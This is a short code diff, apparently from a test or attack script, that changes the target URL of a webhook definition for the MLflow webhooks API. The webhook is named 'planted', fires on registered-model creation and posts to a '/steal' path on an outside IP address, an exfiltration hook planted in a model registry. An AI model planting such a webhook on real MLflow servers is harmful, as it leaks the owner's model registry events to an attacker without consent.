@@ -51,7 +51,7 @@ WEBHOOK = (
     "/api/2.0/mlflow/webhooks",
     {
         "name": "planted",
-        "url": "https://192.0.2.1/steal",
+        "url": "https://93.184.215.14/steal",
         "events": [{"entity": "REGISTERED_MODEL", "action": "CREATED"}],
     },
 )
